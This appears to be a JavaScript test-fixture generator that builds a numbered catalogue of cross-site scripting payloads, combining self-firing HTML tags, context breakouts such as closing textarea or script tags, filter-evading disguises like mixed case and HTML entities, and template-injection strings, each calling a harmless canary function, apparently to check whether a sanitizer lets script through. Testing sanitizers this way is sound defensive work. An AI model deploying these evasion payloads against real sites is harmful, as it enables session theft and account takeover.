/** Written by hand nowhere: what a person might write who wants words to become a script, as carriers × ways out of a context × disguises. */

/** Whatever comes to life calls this with its number. */
export const CANARY = "planted";
const call = (number) => `${CANARY}(${number})`;

/** Markup that calls the canary by itself, without anybody pressing anything. */
const carriers = [
  (number) => `<script>${call(number)}</script>`,
  (number) => `<img src=x onerror=${call(number)}>`,
  (number) => `<svg onload=${call(number)}>`,
  (number) => `<svg><script>${call(number)}</script></svg>`,
  (number) => `<iframe srcdoc="<script>parent.${call(number)}</script>"></iframe>`,
  (number) => `<iframe src="javascript:parent.${call(number)}"></iframe>`,
  (number) => `<body onload=${call(number)}>`,
  (number) => `<details open ontoggle=${call(number)}>x`,
  (number) => `<input autofocus onfocus=${call(number)}>`,
  (number) => `<video><source onerror=${call(number)}></video>`,
  (number) => `<audio src=x onerror=${call(number)}>`,
  (number) => `<style onload=${call(number)}></style>`,
  (number) => `<link rel=stylesheet href=/${CANARY} onerror=${call(number)}>`,
  (number) => `<img src=/${CANARY}?${number}>`,
  (number) => `<style>@import "/${CANARY}?${number}"</style>`,
  (number) => `<a href="javascript:${call(number)}" autofocus>x</a>`,
  (number) => `<math><mtext><img src=x onerror=${call(number)}></mtext></math>`,
];

/** Ways out of where a careless page would have put the words. */
const contexts = ["", '">', "'>", "</textarea>", "</title>", "</script>", "-->"];

const entities = (text) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join("");
/** Disguises that a filter of words would not see through. */
const disguises = [
  (markup) => markup,
  (markup) => markup.replace(/<\/?\w+/g, (tag) => [...tag].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join("")),
  (markup) => markup.replace(/^<(\w+) /, "<$1/"),
  (markup) => markup.replace(/planted\(\d+\)/, (code) => entities(code)),
];

/** Words that only become a script where somebody evaluates or follows them. */
const others = [
  (number) => `javascript:${call(number)}`,
  (number) => `data:text/html,<script>${call(number)}</script>`,
  (number) => `[les](javascript:${call(number)})`,
  (number) => `{{constructor.constructor('${call(number)}')()}}`,
  (number) => "${" + call(number) + "}",
  (number) => `';${call(number)};//`,
  (number) => `\\u003cscript\\u003e${call(number)}\\u003c/script\\u003e`,
  (number) => `&lt;script&gt;${call(number)}&lt;/script&gt;`,
  (number) => `%3Cscript%3E${call(number)}%3C/script%3E`,
];

/** Every payload, each with a number of its own; the same every time. */
export function payloads() {
  const made = new Set();
  for (const disguise of disguises) {
    for (const context of contexts) {
      for (const carrier of carriers) {
        const number = made.size;
        const markup = disguise(carrier(number));
        // A disguise that changes nothing would only be said twice.
        if (disguise === disguises[0] || markup !== carrier(number)) made.add(context + markup);
      }
    }
  }
  for (const other of others) made.add(other(made.size));
  return [...made];
}
